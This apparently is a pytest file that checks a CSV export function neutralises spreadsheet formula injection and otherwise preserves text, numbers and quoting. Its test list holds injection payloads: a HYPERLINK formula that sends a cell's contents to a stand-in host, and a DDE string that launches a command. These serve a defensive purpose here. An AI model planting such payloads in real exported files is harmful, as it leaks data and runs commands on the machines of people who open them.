"""What a spreadsheet gets is what was meant, and nothing in it is a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from casework.csv_text import csv_bytes

FORMULAS = [
    '=HYPERLINK("http://x.example?"&A1,"点我")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "  =1+1", "\u00a0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
]  # fmt: skip


def read_back(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_begins_a_formula_is_shown_as_text(text: str) -> None:
    assert read_back(csv_bytes([[text, 1]])) == [["'" + text, "1"]]


@pytest.mark.parametrize("text", ["高龄津贴", "a=1", "1-2", "", "—", "张,三", '他说"好"', "两\r\n行", "😀", "'=1"])
def test_any_other_text_comes_back_as_it_was(text: str) -> None:
    assert read_back(csv_bytes([[text, "x"]])) == [[text, "x"]]


def test_numbers_stay_numbers_and_quotes_cannot_be_left() -> None:
    data = csv_bytes([["项目", 1, -2, Decimal("-25.00"), 10**18], ['a";=1+1', 0, 0, 0, 0]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data[3:].decode() == '"项目",1,-2,-25.00,1000000000000000000\r\n"a"";=1+1",0,0,0,0\r\n'
